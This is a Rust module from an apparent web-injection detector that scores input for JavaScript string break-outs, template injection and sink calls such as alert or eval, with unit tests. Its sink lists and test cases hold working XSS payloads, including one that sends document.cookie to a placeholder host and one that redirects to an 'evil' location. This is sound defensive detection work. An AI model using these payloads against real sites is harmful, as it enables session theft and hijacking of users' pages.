//! The script context: the value reflected inside a `<script>` block, a JavaScript string or
//! a template literal.
//!
//! - Break-out: a quote (`'`, `"`, `` ` ``) that closes the page's string, optional closing
//!   brackets, an operator or statement end (`;`, `+`, `-`, `||`, `}`…), then a call or an
//!   assignment (`';alert(1)//`, `"-prompt(1)-"`, `'}};top['al'+'ert'](1)//`). Strong when the
//!   callee or target names a script sink (`alert`, `eval`, `document`, `location`…); a
//!   break-out into any other call is Weak (code snippets do that), into any other
//!   assignment None (SQL `SET a = 'x', b = 'y'` does that).
//! - Template literals, client-side templates and Netscape script entities: `${…}`, `{{…}}`
//!   or `&{…}` around a sink call or `constructor` is Strong.
//! - Sinks outside a break-out: `alert(1)`, `eval(x)` alone are Weak; a sink call right
//!   after a statement boundary (`;`, `{`, `}`, `)`, `>`, `*/`) or with `document.cookie` or
//!   `String.fromCharCode` in the value, and a called computed member of a global object
//!   (`top[…](1)`, `window['al'+'ert'](1)`) are Strong.
//! - Sinks reached indirectly (`(alert)(1)`, `a=alert,a(1)`, `al\u0065rt(1)`): checked at
//!   each `(` by `indirect.rs`.

use super::bytes::{contains_ci, eq_ci, is_ident, is_ws_ctrl};
use crate::{Strength, Structure};

/// How far after a quote the break-out pattern is looked for.
const WINDOW: usize = 160;

/// Identifiers that make a call or an assignment a script sink. Names common in benign code
/// snippets after a string (`open`, `this`, `self`, `src`) are left out.
#[rustfmt::skip]
const SINKS: &[&[u8]] = &[
    b"alert", b"prompt", b"confirm", b"eval", b"function", b"settimeout", b"setinterval",
    b"execscript", b"fetch", b"import", b"document", b"window", b"top", b"parent", b"frames",
    b"opener", b"globalthis", b"location", b"cookie", b"write", b"writeln", b"innerhtml",
    b"outerhtml", b"fromcharcode", b"atob", b"constructor", b"xmlhttprequest", b"image",
    b"navigator", b"msgbox", b"jquery", b"getscript",
];

/// Functions whose call is a sink by itself (`alert(1)`, `eval(x)`).
#[rustfmt::skip]
pub(super) const CALL_SINKS: &[&[u8]] = &[
    b"alert", b"prompt", b"confirm", b"eval", b"settimeout", b"setinterval", b"execscript",
    b"fromcharcode", b"write", b"writeln", b"atob", b"msgbox", b"constructor",
];

/// Global objects whose computed member called is a sink (`top['al'+'ert'](1)`).
#[rustfmt::skip]
const GLOBALS: &[&[u8]] = &[
    b"top", b"window", b"self", b"parent", b"frames", b"this", b"globalthis", b"opener",
];

/// Expression keywords that may precede the callee (`'+new Image().src=`).
const PREFIX_KEYWORDS: &[&[u8]] = &[
    b"new", b"typeof", b"void", b"delete", b"await", b"throw", b"return", b"in",
];

/// Whether `ident` names a script sink (any case).
fn is_sink(ident: &[u8]) -> bool {
    SINKS.iter().any(|s| eq_ci(ident, s))
}

/// An operator or statement end that can follow a closed string.
#[inline]
fn is_operator(c: u8) -> bool {
    matches!(
        c,
        b';' | b','
            | b'+'
            | b'-'
            | b'*'
            | b'/'
            | b'%'
            | b'&'
            | b'|'
            | b'^'
            | b'?'
            | b':'
            | b'<'
            | b'>'
            | b'='
            | b'!'
            | b'~'
            | b'}'
    )
}

/// A callee or assignment target after a break-out: an identifier chain with `.x` and
/// `[…]` members, then `(`, `` ` `` or a lone `=`. Returns whether a sink was named and
/// whether it is a call.
fn call_or_assignment(b: &[u8], mut p: usize, lim: usize) -> Option<(bool, bool)> {
    // Prefix operators, opening parentheses and keywords.
    loop {
        while p < lim && (is_ws_ctrl(b[p]) || matches!(b[p], b'(' | b'!' | b'~' | b'+' | b'-')) {
            p += 1;
        }
        let start = p;
        while p < lim && is_ident(b[p]) {
            p += 1;
        }
        let word = &b[start..p];
        if word.is_empty() {
            return None;
        }
        if !(PREFIX_KEYWORDS.iter().any(|k| eq_ci(word, k)) && p < lim && is_ws_ctrl(b[p])) {
            p = start;
            break;
        }
    }
    let mut sink = false;
    let mut idents = 0;
    while p < lim {
        let c = b[p];
        if is_ident(c) {
            let start = p;
            while p < lim && is_ident(b[p]) {
                p += 1;
            }
            sink |= is_sink(&b[start..p]);
            idents += 1;
        } else if c == b'.' && idents > 0 {
            p += 1;
        } else if c == b'[' && idents > 0 {
            // A computed member: `top['al'+'ert']`, `window["alert"]`.
            let close = memchr::memchr(b']', &b[p..lim])?;
            let inner = &b[p + 1..p + close];
            sink |= CALL_SINKS.iter().any(|s| contains_ci(inner, s)) || contains_ci(inner, b"al");
            p += close + 1;
        } else {
            break;
        }
    }
    if idents == 0 {
        return None;
    }
    while p < lim && is_ws_ctrl(b[p]) {
        p += 1;
    }
    match b.get(p) {
        Some(b'(' | b'`') => Some((sink, true)),
        Some(b'=') if b.get(p + 1) != Some(&b'=') => {
            // The assigned value may be the sink: `a=prompt,a()`.
            let v = (p + 1..lim).find(|&v| !is_ws_ctrl(b[v])).unwrap_or(lim);
            let mut e = v;
            while e < lim && is_ident(b[e]) {
                e += 1;
            }
            Some((sink || is_sink(&b[v..e]), false))
        }
        _ => None,
    }
}

/// A break-out after the quote at `q`.
fn breakout_at(b: &[u8], q: usize) -> Structure {
    let lim = b.len().min(q + 1 + WINDOW);
    // Closing brackets, operators and statement ends in any order (`'));`, `"});`, `'||`);
    // at least one operator or statement end.
    let mut p = q + 1;
    let mut operator = false;
    while p < lim && (is_ws_ctrl(b[p]) || is_operator(b[p]) || matches!(b[p], b')' | b']')) {
        operator |= is_operator(b[p]);
        p += 1;
    }
    if !operator {
        return Structure::NONE;
    }
    match call_or_assignment(b, p, lim) {
        Some((true, _)) => Structure::new(Strength::Strong, "script_breakout"),
        Some((false, true)) => Structure::new(Strength::Weak, "script_breakout"),
        _ => Structure::NONE,
    }
}

/// `${…}` / `{{…}}` around a sink call or `constructor`.
fn template_at(b: &[u8], brace: usize) -> bool {
    let lim = b.len().min(brace + WINDOW);
    let Some(close) = memchr::memchr(b'}', &b[brace..lim]) else {
        return false;
    };
    let inner = &b[brace..brace + close];
    contains_ci(inner, b"constructor")
        || matches!(
            call_or_assignment(b, brace + 1, brace + close),
            Some((true, _))
        )
}

/// Whether the text before `at` (skipping whitespace) ends a statement or an element.
pub(super) fn after_boundary(b: &[u8], at: usize) -> bool {
    let mut p = at;
    while p > 0 && is_ws_ctrl(b[p - 1]) {
        p -= 1;
    }
    p > 0 && (matches!(b[p - 1], b';' | b'{' | b'}' | b')' | b'>') || b[..p].ends_with(b"*/"))
}

/// The callee identifier that ends just before `at`, and where it starts.
pub(super) fn callee_before(b: &[u8], at: usize) -> (&[u8], usize) {
    let mut p = at;
    while p > 0 && is_ident(b[p - 1]) && at - p < 32 {
        p -= 1;
    }
    (&b[p..at], p)
}

/// Whether the `[` at `open` starts a computed member that is called: `[…](` or `[…]```.
fn computed_call(b: &[u8], open: usize) -> bool {
    let lim = b.len().min(open + 64);
    memchr::memchr(b']', &b[open..lim])
        .is_some_and(|o| matches!(b.get(open + o + 1), Some(b'(' | b'`')))
}

/// Whether the call or tagged template at `open` (a `(` or `` ` ``) calls a sink: `Some(true)`
/// when it is Strong by its position (after a statement boundary).
fn sink_call_at(b: &[u8], open: usize) -> Option<bool> {
    let (callee, start) = callee_before(b, open);
    (!callee.is_empty() && CALL_SINKS.iter().any(|s| eq_ci(callee, s)))
        .then(|| after_boundary(b, start))
}

/// Scan `b` for script-context break-outs, template injections and sink calls: one pass over
/// the quotes, one over `(`, `[` and `{`.
pub(super) fn scan(b: &[u8]) -> Structure {
    let strong_sink = Structure::new(Strength::Strong, "js_sink");
    let mut best = Structure::NONE;
    let mut sink_call = false;
    for i in memchr::memchr3_iter(b'\'', b'"', b'`', b) {
        let found = breakout_at(b, i);
        if found.strength == Strength::Strong {
            return found;
        }
        best = best.max(found);
        if b[i] == b'`' {
            match sink_call_at(b, i) {
                Some(true) => return strong_sink,
                Some(false) => sink_call = true,
                None => {}
            }
        }
    }
    for i in memchr::memchr3_iter(b'(', b'[', b'{', b) {
        match b[i] {
            b'(' => {
                match sink_call_at(b, i) {
                    Some(true) => return strong_sink,
                    Some(false) => sink_call = true,
                    None => {}
                }
                let found = super::indirect::at(b, i);
                if found.strength == Strength::Strong {
                    return found;
                }
                best = best.max(found);
            }
            b'[' => {
                let (callee, _) = callee_before(b, i);
                if GLOBALS.iter().any(|g| eq_ci(callee, g)) && computed_call(b, i) {
                    return strong_sink;
                }
            }
            _ => {
                if i > 0 && matches!(b[i - 1], b'$' | b'{' | b'&') && template_at(b, i) {
                    return Structure::new(Strength::Strong, "template_injection");
                }
            }
        }
    }
    if sink_call {
        let window = &b[..b.len().min(4096)];
        if contains_ci(window, b"document.cookie") || contains_ci(window, b"fromcharcode") {
            return strong_sink;
        }
        best = best.max(Structure::new(Strength::Weak, "js_sink"));
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    fn s(v: &str) -> Strength {
        scan(v.as_bytes()).strength
    }

    #[test]
    fn breakouts() {
        for v in [
            "';alert(document.cookie)//",
            "\"-prompt(1)-\"",
            "\\';alert(1)//",
            "');alert(1)//",
            "'}};top['al'+'ert'](1)//",
            "';new Image().src='//x?'+document.cookie//",
            "\";window.location='//evil'//",
            "`;alert`1`//",
            "${alert(1)}",
            "{{constructor.constructor('alert(1)')()}}",
            "x;alert(1)",
            "alert(document.cookie)",
            "\";a=prompt,a()//",
            "\"});alert(1);//",
            "'))}catch(e){alert(1)}//",
            "<BR SIZE=\"&{alert(1)}\">",
            "top[/al/.source+/ert/.source](1)",
            "window['al'+'ert'](1)",
        ] {
            assert_eq!(s(v), Strength::Strong, "{v}");
        }
    }

    #[test]
    fn weak_and_none() {
        for v in [
            "alert(1)",
            "eval(a+b)",
            "print(\"hi\"); foo(x)",
            "Set.constructor`x`",
        ] {
            assert_eq!(s(v), Strength::Weak, "{v}");
        }
        for v in [
            "UPDATE t SET a = 'x', City = 'y' WHERE id = 1",
            "O'Brien",
            "It's 'fine', really",
            "{\"a\":\"b\",\"c\":[1,2]}",
            "${price}",
            "top[3] (of 10)",
            "window[0]",
            "confirm (yes)",
            "`inline code`",
            "He said \"hi\" (twice)",
            "'use strict'; this.count = 0",
        ] {
            assert_eq!(s(v), Strength::None, "{v}");
        }
    }
}
